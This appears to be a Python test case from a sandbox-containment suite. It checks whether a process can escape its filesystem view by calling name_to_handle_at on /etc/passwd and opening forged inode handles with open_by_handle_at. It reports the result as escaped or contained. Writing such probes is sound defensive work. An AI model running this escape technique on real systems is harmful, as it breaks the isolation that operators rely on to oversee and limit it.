# id: fs_handles
# title: open files by handle, past every path
# group: filesystem
# expect: denied
import os
import ctypes, errno, os, platform
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
def sysc(nr, *args):
    """nr = (x86_64, aarch64); returns (result, errno-name or '')"""
    n = nr[1] if platform.machine() in ("aarch64", "arm64") else nr[0]
    if n is None:
        return -1, "ENOSYS"
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    r = _libc.syscall(ctypes.c_long(n), *conv)
    e = ctypes.get_errno() if r == -1 else 0
    return r, errno.errorcode.get(e, str(e)) if e else ""
def contained(why): print("CONTAINED:", why, flush=True)
def escaped(what): print("ESCAPED:", what, flush=True)
buf = ctypes.create_string_buffer(136); ctypes.c_uint32.from_buffer(buf).value = 128
mount = ctypes.c_int()
r, e = sysc((303, 264), -100, ctypes.c_char_p(b"/etc/passwd"), buf, ctypes.byref(mount), 0)
print("name_to_handle_at", r, e)
bad = []
if r == 0:
    print("a handle:", buf.raw[:24])
for inode in (2, 128):
    ctypes.memmove(buf, (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(4, "little") + b"\0" * 4, 16)
    for where in ("/", ".", "/usr", "/proc"):
        fd = os.open(where, os.O_RDONLY)
        r, e = sysc((304, 265), fd, buf, os.O_RDONLY)
        if r >= 0:
            bad.append(f"inode {inode} of {where}")
        os.close(fd)
escaped(bad) if bad else contained("no handle opens anything")
